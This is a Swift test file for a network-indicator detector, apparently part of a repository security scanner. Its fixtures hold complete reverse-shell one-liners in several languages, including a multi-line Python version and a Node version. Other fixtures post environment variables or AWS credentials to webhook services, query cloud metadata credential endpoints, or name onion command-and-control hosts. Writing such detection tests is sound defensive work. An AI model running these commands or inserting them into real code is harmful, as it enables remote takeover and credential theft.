import Testing

@testable import CustodyCore

struct NetworkIndicatorDetectorTests {
    let detector = NetworkIndicatorDetector()

    @Test(arguments: [
        ("scripts/postinstall.sh", "bash -i >& /dev/tcp/45.33.32.156/4444 0>&1"),
        ("lib/x.py", "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"45.33.32.156\",4444));os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")"),
        ("tools/x.sh", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 45.33.32.156 4444 >/tmp/f"),
        ("tools/x.sh", "nc -e /bin/sh 45.33.32.156 4444"),
        ("wp/x.php", "$sock=fsockopen(\"45.33.32.156\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");"),
        ("lib/x.rb", "f=TCPSocket.open(\"45.33.32.156\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)"),
    ])
    func reverseShellsAreCritical(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(NetworkIndicatorDetector.reverseShell).first, "\(path)")
        #expect(finding.severity == .critical)
        #expect(finding.category == .networkIndicator)
    }

    @Test func multiLinePythonReverseShell() throws {
        let py = """
            import socket, subprocess, os
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect(("198.51.100.7", 9001))
            os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
            subprocess.call(["/bin/sh", "-i"])
            """
        let findings = DetectorFixtures.scan(detector, "pkg/__init__.py", py)
        #expect(findings.with(NetworkIndicatorDetector.reverseShell).first?.severity == .critical)
    }

    @Test func nodeReverseShell() throws {
        let js = """
            var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);
            var client = new net.Socket();
            client.connect(4444, "45.33.32.156", function(){ client.pipe(sh.stdin); sh.stdout.pipe(client); });
            """
        #expect(!DetectorFixtures.scan(detector, "index.js", js).with(NetworkIndicatorDetector.reverseShell).isEmpty)
    }

    @Test(arguments: [
        ("src/exfil.js", "fetch('https://discord.com/api/webhooks/123/abc', {method:'POST', body: JSON.stringify(process.env)})"),
        ("setup.py", "requests.post('https://webhook.site/0b1c', data=open(os.path.expanduser('~/.aws/credentials')).read())"),
        ("src/beacon.go", "resp, _ := http.Get(\"https://pastebin.com/raw/Xy12Ab\")"),
        ("src/a.ts", "const c2 = 'wss://abcd-45-33-32-156.ngrok-free.app/ws';"),
        ("lib/a.rb", "Net::HTTP.get(URI('http://metadata.google.internal/computeMetadata/v1/'))"),
        ("src/a.py", "urlopen('http://169.254.169.254/latest/meta-data/iam/security-credentials/')"),
        ("src/c2.c", "#define C2 \"http://abcdefghij234567.onion/gate\""),
        ("src/c2.go", "const c2 = \"vww6ybal4bd7szmgncyruucpgfkqahzddi37ktceo3ah7ngmcopnpyyd.onion:443\""),
    ])
    func suspiciousHostsAreHigh(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.with(NetworkIndicatorDetector.host).first?.severity == .high, "\(path)")
    }

    /// Code that handles the `.onion` top-level domain (refusing to resolve it) names no host.
    @Test func onionTopLevelDomainIsNotAHost() {
        let c = """
            if(hostname_len > 6 && (strcasecompare(&name[hostname_len - 6], ".onion") ||
                                     strcasecompare(&name[hostname_len - 7], ".onion."))) {
              failf(data, "Not resolving .onion address (RFC 7686)");
            """
        #expect(DetectorFixtures.scan(detector, "lib/resolve.c", c).with(NetworkIndicatorDetector.host).isEmpty)
    }

    @Test(arguments: [
        ("src/client.c", "addr.sin_addr.s_addr = inet_addr(\"45.33.32.156\");"),
        ("src/x.py", "C2 = ('185.220.101.4', 443)"),
        ("src/x.go", "conn, err := net.Dial(\"tcp\", \"91.198.174.192:80\")"),
    ])
    func publicAddressesInCodeAreMedium(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(NetworkIndicatorDetector.address).first)
        #expect(finding.severity == .medium)
    }

    @Test(arguments: [
        ("src/net.c", "inet_pton(AF_INET, \"127.0.0.1\", &a); inet_pton(AF_INET, \"192.168.1.10\", &b);"),
        ("src/net.c", "/* see 10.0.0.1 and 172.16.5.4 */ connect_to(\"203.0.113.10\");"),
        ("src/net.py", "TEST_NET = ['192.0.2.1', '198.51.100.2', '203.0.113.3']"),
        ("src/version.h", "#define VERSION \"1.2.11.1\""),
        ("src/ver.py", "__version__ = '2.0.0.1'"),
        ("src/oid.c", "static const char *oid = \"1.3.6.1.4.1.311.60.2.1.3\";"),
        ("docs/setup.md", "Point your resolver at 45.33.32.156 and visit http://example.com."),
        ("README.md", "See https://pastebin.com/about for the paste format."),
        ("src/links.py", "DOCS = 'https://docs.python.org/3/library/socket.html'"),
        ("tests/net_test.go", "addr := \"45.33.32.156:80\""),
        ("src/ip.c", "uint32_t mask = 0xffffff00; // 255.255.255.0"),
    ])
    func documentationAndPrivateAddressesAreQuietOrInfo(_ path: String, _ line: String) {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.allSatisfy { $0.severity <= .low }, "\(path): \(findings.map(\.evidence))")
    }

    @Test func rawSocketIsMedium() {
        let findings = DetectorFixtures.scan(detector, "src/sniff.c", "fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));")
        #expect(findings.with(NetworkIndicatorDetector.rawSocket).first?.severity == .medium)
    }

    @Test func networkUseInAFileThatHadNone() throws {
        let old = ObjectID("3333333333333333333333333333333333333333")!
        let blobs = InMemoryBlobSource([old: Array("def add(a, b):\n    return a + b\n".utf8)])
        let findings = DetectorFixtures.scan(
            detector, "pkg/mathutil.py", "    requests.post(URL, data=secrets)", blobs: blobs, kind: .modify, oldBlob: old)
        let finding = try #require(findings.with(NetworkIndicatorDetector.rawSocket).first)
        #expect(finding.evidence.contains("had none"))
        // The same line in a file that already talks to the network is not news.
        let blobs2 = InMemoryBlobSource([old: Array("import requests\nrequests.get(U)\n".utf8)])
        let again = DetectorFixtures.scan(
            detector, "pkg/mathutil.py", "    requests.post(URL, data=secrets)", blobs: blobs2, kind: .modify, oldBlob: old)
        #expect(again.with(NetworkIndicatorDetector.rawSocket).isEmpty)
    }

    @Test func megabyteMinifiedLineCompletes() {
        _ = DetectorFixtures.scan(detector, "src/app.js", bytes: DetectorFixtures.megabyteLine)
    }
}
